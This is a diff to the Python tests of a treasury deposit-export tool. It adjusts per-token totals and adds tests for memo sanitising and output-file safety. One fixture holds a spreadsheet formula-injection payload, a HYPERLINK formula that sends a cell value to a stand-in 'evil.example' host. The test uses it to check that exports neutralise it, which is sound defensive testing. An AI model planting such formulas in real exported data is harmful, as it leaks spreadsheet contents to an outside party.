@@ -10,6 +10,8 @@ import csv
 import datetime as dt
 import json
 import re
+import stat
+import subprocess
 import zipfile
 from decimal import Decimal
 from pathlib import Path
@@ -24,7 +26,7 @@ from beancount.core import data
 from sqlalchemy import text
 
 from ledger_client import Ledger
-from tests.backfill_support import treasury
+from tests.backfill_support import TREASURY, treasury
 from tests.export_support import (
     ALL_ROWS,
     CREDITED_TOTAL,
@@ -237,10 +239,22 @@ def test_xlsx_one_header_row_then_rows_and_totals_on_another_sheet(ledger_url: s
     assert "<v>21.13233391276909</v>" in xml
     assert "<v>0.021132</v>" in xml
     totals = {row[0]: row for row in workbook["Totals"].iter_rows(values_only=True) if row[0]}
-    # OSR: 1 inflow, 10,000 OSR, 50.000000 value, 25.000000 bonus, 75.000000 held, 7,000 burn, 3,000 kept.
-    assert totals["OSR"][1:] == (1, 10000, 50, 25, 0, 75, 7000, 3000)
-    # SOL: 0.001 + 0.01 + 0.042 + 0.024922118 received; value 0.021132 + 0.229429 of credited and held.
-    assert totals["SOL"][1:7] == (4, pytest.approx(0.077922118), pytest.approx(0.250561), 0, 0.021132, 0.229429)
+    # OSR: 1 inflow, 10,000 OSR received and held, 50.000000 value, 25.000000 bonus, 75.000000 held,
+    # 7,000 burn, 3,000 kept.
+    assert totals["OSR"][1:] == (1, 10000, 10000, 50, 25, 0, 75, 7000, 3000)
+    # SOL: 0.001 + 0.01 + 0.042 + 0.024922118 received; 0.001 + 0.01 credited or held, worth
+    # 0.021132 + 0.229429.
+    assert totals["SOL"][1:8] == (
+        4,
+        pytest.approx(0.077922118),
+        0.011,
+        pytest.approx(0.250561),
+        0,
+        0.021132,
+        0.229429,
+    )
+    # USDC: 0.001 (dust) + 14.198095 (the treasury's own swap) + 3.8 received; only the 3.8 held.
+    assert totals["USDC"][1:4] == (3, pytest.approx(17.999095), 3.8)
     assert totals["credited"][1] == 0.021132
     assert totals["held_in_suspense"][1] == 79.029429
 
@@ -373,3 +387,69 @@ def test_an_empty_window_is_a_header_only_file(sqlite_url: str, tmp_path: Path) 
     assert done.returncode == 0, done.stderr
     assert out.read_text() == ",".join(COLUMNS) + "\n"
     assert USDC_SUSPENSE not in out.read_text()
+
+
+def test_a_senders_memo_never_becomes_a_formula_or_breaks_the_xlsx(sqlite_url: str, tmp_path: Path) -> None:
+    """The memo is the one field a sender writes freely: a formula in it stays text, and control
+    characters (valid UTF-8, but not allowed in XLSX) are written as \\xNN instead of failing the export."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with export_ledger(sqlite_url) as (ledger, settings):
+        ledger.run(
+            lambda uow: uow.connection.execute(
+                text("UPDATE deposits SET memo = :memo WHERE signature = :s"),
+                [{"memo": formula, "s": SOL_LINKED}, {"memo": "bell\x07nul\x00end", "s": USDC_SUSPENSE}],
+            )
+        )
+        env = environment(settings)
+        for file_format in ("xlsx", "csv", "jsonl"):
+            done = treasury(
+                "export", "deposits", *EVERYTHING, "--format", file_format, "--out", str(tmp_path / f"m.{file_format}"),
+                env=env,
+            )  # fmt: skip
+            assert done.returncode == 0, done.stderr
+    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx")["Deposits"]
+    memos = {row[3].value: row[-1] for row in sheet.iter_rows(min_row=2)}
+    assert (memos[SOL_LINKED].value, memos[SOL_LINKED].data_type) == (formula, "s")
+    assert memos[USDC_SUSPENSE].value == "bell\\x07nul\\x00end"
+    assert "<f>" not in zipfile.ZipFile(tmp_path / "m.xlsx").read("xl/worksheets/sheet1.xml").decode()
+    with (tmp_path / "m.csv").open(newline="") as handle:
+        from_csv = {row["signature"]: row["memo"] for row in csv.DictReader(handle)}
+    assert from_csv[SOL_LINKED] == "'" + formula  # shown as text by spreadsheets (CSV injection)
+    from_jsonl = {r["signature"]: r["memo"] for r in map(json.loads, (tmp_path / "m.jsonl").read_text().splitlines())}
+    assert from_jsonl[SOL_LINKED] == formula  # verbatim where no spreadsheet reads it
+    assert from_jsonl[USDC_SUSPENSE] == "bell\x07nul\x00end"
+
+
+def test_out_must_be_a_regular_file_and_keeps_its_mode(sqlite_url: str, tmp_path: Path) -> None:
+    env = {"TREASURY_DATABASE_URL": sqlite_url, "PATH": "/usr/bin:/bin"}
+    window = ("--since", "2026-05-01", "--until", "2026-06-01")
+    target = tmp_path / "real.csv"
+    target.write_text("kept\n")
+    link = tmp_path / "link.csv"
+    link.symlink_to(target)
+    for out, message in (
+        (link, "a symbolic link"),
+        (Path("/dev/null"), "not a regular file"),
+        (Path("-"), "name a file"),
+    ):
+        done = treasury("export", "deposits", *window, "--format", "csv", "--out", str(out), env=env)
+        assert done.returncode == 2, (out, done.stderr)
+        assert message in done.stderr and done.stderr.count("\n") == 1
+    assert link.is_symlink() and target.read_text() == "kept\n"
+    assert Path("/dev/null").is_char_device()
+    # A place no file can be created in: exit 2 before the ledger is read.
+    done = treasury("export", "ledger", *window, "--format", "csv", "--out", "/proc/treasury-export.csv", env=env)
+    assert done.returncode == 2 and "cannot write in /proc" in done.stderr
+    # A new file gets 0666 less the umask; a replaced file keeps its mode.
+    fresh = tmp_path / "fresh.csv"
+    done = subprocess.run(
+        ["sh", "-c", 'umask 022 && exec "$0" "$@"', TREASURY, "export", "deposits", *window, "--format", "csv",
+         "--out", str(fresh)],
+        env=env, capture_output=True, text=True, check=False,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    assert stat.S_IMODE(fresh.stat().st_mode) == 0o644
+    target.chmod(0o640)
+    assert treasury("export", "deposits", *window, "--format", "csv", "--out", str(target), env=env).returncode == 0
+    assert stat.S_IMODE(target.stat().st_mode) == 0o640
+    assert target.read_text() == ",".join(COLUMNS) + "\n"
